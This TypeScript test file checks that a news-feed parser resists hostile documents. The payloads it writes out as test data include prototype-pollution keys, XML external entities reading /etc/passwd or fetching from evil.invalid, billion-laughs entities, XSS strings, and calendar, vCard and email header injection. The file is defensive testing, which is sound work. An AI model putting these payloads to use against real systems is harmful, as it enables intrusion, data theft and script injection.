/** Attacks through documents, without a page. SECURITY.md lists them. */
import { expect } from 'chai';
import { parseNews } from '../../src/loading/parse-news.js';
import type { NewsFeed } from '../../src/model/news.js';
import { writeCalendar } from '../../src/elements/news-item/icalendar.js';
import { isRecording } from '../../src/elements/news-item/recordings.js';
import { makeVCard } from '../../src/elements/parts/vcard.js';
import { timeFormat } from '../../src/language/intl-cache.js';
import { inZone, isTimeZone } from '../../src/language/time-zones.js';

const URL_OF_FEED = 'https://quay.invalid/feed';

const read = (input: string | object, headers?: Record<string, string>): Promise<NewsFeed> =>
  parseNews(input, { url: URL_OF_FEED, headers: headers && new Headers(headers) });

const jsonFeed = (...items: readonly object[]): object => ({ version: 'https://jsonfeed.org/version/1.1', items });
const rss = (content: string): string => `<rss version="2.0"><channel>${content}</channel></rss>`;
const post = (more: object): object => ({
  id: 1,
  link: 'https://quay.invalid/a',
  title: { rendered: 'Lock' },
  ...more,
});

/** Fails if a reader has changed what all objects inherit. */
const expectCleanPrototypes = (): void => {
  expect(Object.keys(Object.prototype)).to.deep.equal([]);
  expect(({} as Record<string, unknown>)['polluted']).to.equal(undefined);
};

describe('attacks through documents fail:', () => {
  afterEach(expectCleanPrototypes);

  const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

  it('JSON members named like members of `Object.prototype`', async () => {
    const evil = NAMES.map((name) => `"${name}":{"polluted":1,"value":"x"}`).join();
    const feed = await read(
      `{"version":"https://jsonfeed.org/version/1.1",${evil},"items":[{"id":"1","title":"Lock",${evil},"_news":{${evil}}}]}`,
    );
    expect(feed.items.map(({ versions }) => versions[0].headline)).to.deep.equal(['Lock']);
  });

  it('languages named like members of `Object.prototype`', async () => {
    const map = Object.fromEntries(NAMES.slice(1).map((name) => [name, 'https://quay.invalid/x']));
    const json = JSON.stringify([post({ translations: map })]).replace('"constructor"', '"__proto__"');
    expect((await read(json)).items[0]?.versions.length).to.equal(1);
    const note = `{"@context":"https://www.w3.org/ns/activitystreams","type":"Note","id":"https://quay.invalid/1","contentMap":{"__proto__":"<p>a</p>","en":"<p>b</p>"}}`;
    expect((await read(note)).items[0]?.versions.some(({ language }) => language === 'en')).to.equal(true);
  });

  it('XML elements, attributes and prefixes named like members of `Object.prototype`', async () => {
    const tags = NAMES.map((name) => `<${name} ${name}="x"/><${name}:a xmlns:${name}="y"/>`).join('');
    const feed = await read(rss(`${tags}<item><title>Lock</title>${tags}</item>`));
    expect(feed.items[0]?.versions[0].headline).to.equal('Lock');
  });

  it('entities that grow, and external entities', async () => {
    const feed = await read(
      `<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "https://evil.invalid/d">%d;]>${rss('<item><title>&b;-&c;</title></item>')}`,
    );
    expect(feed.items[0]?.versions[0].headline).to.equal('&b;-&c;');
  });

  it('data that contain themselves', async () => {
    const item: Record<string, unknown> = { '@type': 'NewsArticle', '@id': '#a', headline: 'Lock', inLanguage: 'en' };
    item['workTranslation'] = [item, { '@id': '#a' }, { '@type': 'NewsArticle', '@id': '#b', translationOfWork: item }];
    const error = await read({ '@context': 'https://schema.org', ...item }).catch((reason: unknown) => reason);
    expect(error).to.satisfy(
      (value: NewsFeed & { code?: string }) => value.code === 'malformed' || value.items.length === 1,
    );
  });

  it('translations in a circle', async () => {
    const article = (id: string, next: string): object => ({
      '@type': 'NewsArticle',
      '@id': `https://quay.invalid/${id}`,
      headline: id,
      inLanguage: id,
      workTranslation: { '@id': `https://quay.invalid/${next}` },
    });
    const feed = await read({
      '@context': 'https://schema.org',
      '@graph': [article('en', 'fr'), article('fr', 'ru'), article('ru', 'en')],
    });
    expect(feed.items.length).to.equal(1);
    expect(feed.items[0]?.versions.map(({ language }) => language)).to.have.members(['en', 'fr', 'ru']);
  });

  it('next pages that are not web addresses', async () => {
    const pages = await Promise.all(
      ['javascript:alert(1)', 'file:///etc/passwd', 'data:application/json,{}', 'https://a:b@quay.invalid/', 'x:y'].map(
        async (next_url) => (await read({ ...jsonFeed(), next_url })).nextUrl,
      ),
    );
    expect(pages).to.deep.equal([undefined, undefined, undefined, undefined, undefined]);
    const link = { link: '<javascript:alert(1)>; rel="next"' };
    expect((await read(JSON.stringify([post({})]), link)).nextUrl).to.equal(undefined);
  });

  it('a huge page number', async () => {
    const options = { url: 'https://quay.invalid/p?page=1e308', headers: new Headers({ 'x-wp-totalpages': '1e309' }) };
    expect((await parseNews(JSON.stringify([post({})]), options)).nextUrl).to.equal(undefined);
  });

  it('code before a document', async () => {
    const feed = await read(
      `alert(1);fetch("https://evil.invalid/")\n${JSON.stringify(jsonFeed({ id: '1', title: 'Lock' }))}`,
    );
    expect(feed.items[0]?.versions[0].headline).to.equal('Lock');
  });

  it('a document behind 100,000 characters', async () => {
    const error = await read(`${'x\n'.repeat(50_000)}${rss('')}`).catch((reason: unknown) => reason);
    expect(error).to.have.property('code', 'unsupported-format');
  });

  it('halves of characters as references', async () => {
    const feed = await read(rss('<item><title>a&#xD83D;b&#xDEA2;&#xD83D;</title></item>'));
    expect(feed.items[0]?.versions[0].headline).to.equal('a\ufffdb\ufffd\ufffd');
  });

  it('a tag that only decoding makes', async () => {
    const feed = await read(
      jsonFeed({ id: '1', title: '&#60;img src=x onerror=alert(1)&#62;' }, { id: '2', title: '&#38;#60;b&#38;#62;' }),
    );
    // Decoded once. Templates insert the result as text.
    expect(feed.items.map(({ versions }) => versions[0].headline)).to.deep.equal([
      '<img src=x onerror=alert(1)>',
      '&#60;b&#62;',
    ]);
  });

  it('a headline of a million characters', async () => {
    const feed = await read(jsonFeed({ id: '1', title: 'x'.repeat(1_000_000), language: 'e'.repeat(1_000_000) }));
    expect(feed.items[0]?.versions[0].headline?.length).to.equal(10_000);
  });

  it('a name that would slow down the patterns for names', async () => {
    const name = 'a'.repeat(100_000);
    const feed = await read(
      `<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title>L</title><author><name>${name}</name></author></entry></feed>`,
    );
    expect(feed.items[0]?.authors[0]?.name.length).to.equal(500);
  });

  it('a list with a gap of four thousand million', async () => {
    const feed = await read({ ...jsonFeed(), items: { 4294967295: { id: '1', title: 'Lock' } } });
    expect(feed.items.length).to.equal(1);
  });

  it('shortcodes that split a tag', async () => {
    const feed = await read([post({ content: { rendered: '<scr[vc_row]ipt>alert(1)</scr[/vc_row]ipt>' } })]);
    // Shortcodes are removed before the sanitiser reads the markup.
    expect(feed.items[0]?.versions[0].body).to.deep.equal({ html: '<script>alert(1)</script>' });
  });

  it('line breaks and new properties in a vCard', async () => {
    const card = await makeVCard({
      name: 'Ada\r\nEND:VCARD\nBEGIN:VCARD',
      organization: 'Quay\nPHOTO;VALUE=uri:https://evil.invalid/',
      jobTitle: 'x;y,z\\n',
      email: 'a@quay.invalid',
    });
    const lines = card.split('\r\n').filter((line) => !line.startsWith(' '));
    expect(lines.filter((line) => /^(?:BEGIN|END|PHOTO)/.test(line))).to.deep.equal(['BEGIN:VCARD', 'END:VCARD']);
  });

  it('contacts with headers and codes', async () => {
    const contacts = [
      { email: 'a@quay.invalid?bcc=b@evil.invalid' },
      { email: 'a@quay.invalid%0ABcc:b@evil.invalid' },
      { phone: '*#06#' },
      { url: 'javascript:alert(1)' },
      { url: 'https://quay.invalid@evil.invalid/' },
    ];
    const feed = await read(jsonFeed({ id: '1', title: 'Lock', _news: { contacts } }));
    const written = JSON.stringify(feed.items[0]?.contacts);
    expect(written).to.not.match(/bcc=|%0a|javascript:|@evil/i);
  });

  const eventFeed = (event: object): object =>
    jsonFeed({ id: '1', title: 'Lock', content_text: 'x', _news: { event } });

  it('line breaks and new properties in an event that is saved', async () => {
    const breaks = ['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '\v', '\f', '\0', '\ud800', '\r\n '];
    const evil = breaks
      .map((each) => `x${each}END:VEVENT${each}BEGIN:VALARM${each}ATTACH:https://evil.invalid/`)
      .join(';,\\');
    const [item] = (
      await read(
        eventFeed({
          start: '2026-01-01T10:00',
          time_zone: 'Europe/Paris\r\nBEGIN:VALARM',
          status: 'cancelled\r\nBEGIN:VALARM',
          place: { name: evil, address: { lines: [evil], locality: evil } },
          url: 'https://quay.invalid/\r\nBEGIN:VALARM',
        }),
      )
    ).items;
    const { event } = item!;
    const calendar = writeCalendar(
      { uid: evil, title: evil, description: evil, location: evil, url: event!.online, event: event! },
      0,
    );
    const names = calendar
      .replaceAll('\r\n ', '')
      .split(/\r\n|[\n\r\u2028\u2029\u0085\v\f\0]/)
      .map((line) => line.replace(/[:;].*/s, ''));
    expect(names).to.deep.equal(
      'BEGIN VERSION PRODID BEGIN UID DTSTAMP DTSTART SUMMARY DESCRIPTION LOCATION URL STATUS END END'
        .split(' ')
        .concat(''),
    );
    expect(calendar.split('\r\n').every((line) => new TextEncoder().encode(line).length <= 75)).to.equal(true);
  });

  for (const zone of [
    'local',
    '__proto__',
    'constructor',
    '../../etc/passwd',
    '+99:99',
    'UTC\0',
    'x'.repeat(10_000),
    '<b>',
    '',
  ]) {
    it(`an invalid time zone: ${JSON.stringify(zone).slice(0, 24)}`, async () => {
      const [item] = (await read(eventFeed({ start: '2026-01-01T10:00', time_zone: zone }))).items;
      expect(isTimeZone(item!.event!.timeZone)).to.equal(false);
    });
  }

  it('dates at the ends of the calendar, in the zones that differ most', async () => {
    const dates = [
      '1600-01-01',
      '1600-01-01T00:00:00+19:59',
      '2100-12-31T23:59:59-19:59',
      '2100-12-31',
      '2026-03-29T02:30',
    ];
    for (const start of dates) {
      for (const time_zone of ['Pacific/Kiritimati', 'Etc/GMT+12', 'Asia/Kathmandu', 'UTC']) {
        const event = (await read(eventFeed({ start, end: start, time_zone }))).items[0]!.event!;
        const { date, moment = 0, offset = 0 } = inZone(event.start, time_zone);
        expect(
          [date.iso.length >= 10, Number.isFinite(moment), Math.abs(offset) <= 24 * 60],
          `${start} ${time_zone}`,
        ).to.deep.equal([true, true, true]);
        const calendar = writeCalendar({ uid: 'a', title: 'b', event }, 0);
        expect(calendar)
          .to.match(/\r\nDTSTART(?:;VALUE=DATE:\d{8}|:\d{8}T\d{6}Z?)\r\n/)
          .and.not.match(/NaN|Invalid/);
      }
    }
  });

  it('time zones in thousands of spellings', () => {
    const { DateTimeFormat } = Intl;
    const first = timeFormat('Europe/Brussels');
    for (let id = 0; id < 500; id += 1) timeFormat(`Nowhere/Z${id}`);
    // The cache was emptied meanwhile, so it cannot grow without limit.
    expect(timeFormat('Europe/Brussels')).to.be.instanceOf(DateTimeFormat).and.not.equal(first);
  });

  it('recordings with hostile addresses, types and durations', async () => {
    const attachments = [
      ...[
        'javascript:alert(1)',
        'data:audio/mpeg,x',
        'blob:https://quay.invalid/1',
        'file:///etc/passwd',
        'https://a:b@quay.invalid/',
      ].map((url) => ({ url, mime_type: 'audio/mpeg' })),
      ...[1e308, -1, '1e9', {}, null].map((duration_in_seconds, id) => ({
        url: `https://quay.invalid/${id}.mp4`,
        mime_type: 'video/mp4" onerror="alert(1)',
        duration_in_seconds,
        _news: {
          poster: 'javascript:alert(1)',
          tracks: [
            { url: 'javascript:alert(1)' },
            { url: 'https://quay.invalid/a.vtt', kind: 'metadata', language: '"><script>' },
          ],
        },
      })),
    ];
    const [item] = (await read(jsonFeed({ id: '1', title: 'Lock', content_text: 'x', attachments }))).items;
    expect(item!.attachments.map(({ url }) => url)).to.deep.equal(
      [0, 1, 2, 3, 4].map((id) => `https://quay.invalid/${id}.mp4`),
    );
    expect(item!.attachments.map(({ duration }) => duration)).to.deep.equal(Array(5).fill(undefined));
    expect(
      item!.attachments.flatMap(({ tracks = [] }) => tracks.map(({ url, kind }) => `${url} ${kind}`)),
    ).to.deep.equal(Array(5).fill('https://quay.invalid/a.vtt captions'));
    expect(item!.attachments.some((attachment) => attachment.poster !== undefined)).to.equal(false);
    expect(item!.attachments.filter(isRecording)).to.deep.equal([]);
  });

  it('durations that would need thousands of digits', async () => {
    const feed = await read(
      `<rss xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"><channel>${[
        '9'.repeat(5000),
        '1:'.repeat(5000),
        'PT1e9S',
        '-1',
        'P9999999D',
      ]
        .map(
          (text, id) =>
            `<item><title>${id}</title><enclosure url="https://quay.invalid/${id}.mp3" type="audio/mpeg"/><itunes:duration>${text}</itunes:duration></item>`,
        )
        .join('')}</channel></rss>`,
    );
    expect(feed.items.map(({ attachments }) => attachments[0]!.duration)).to.deep.equal(Array(5).fill(undefined));
  });

  const RELATIVE = [
    '/admin/delete?id=1',
    '?logout=1',
    '[object Object]',
    'javascript&colon;alert(1)',
    '//evil',
    'index.html',
    '.',
  ];
  it('relative addresses in data without an address', async () => {
    for (const url of RELATIVE) {
      const feed = await parseNews(
        jsonFeed({
          id: '1',
          title: 'Lock',
          content_text: 'x',
          url,
          image: url,
          authors: [{ name: 'Ada', url }],
          attachments: [{ url }],
          _news: {
            contacts: [{ email: 'a@quay.invalid', url }],
            related: [{ url, title: 'x' }],
            alternates: [{ url, language: 'fr' }],
            rights: { license: url },
            subjects: [{ name: 'x', uri: url }],
            images: [{ renditions: [{ href: url }] }],
            event: { start: '2026-01-01', url },
          },
        }),
      );
      expect(JSON.stringify(feed), url).to.not.include('"url"').and.not.include('"uri"').and.not.include('"license"');
      expect(feed.items[0]!.event!.online, url).to.equal(undefined);
    }
  });
});
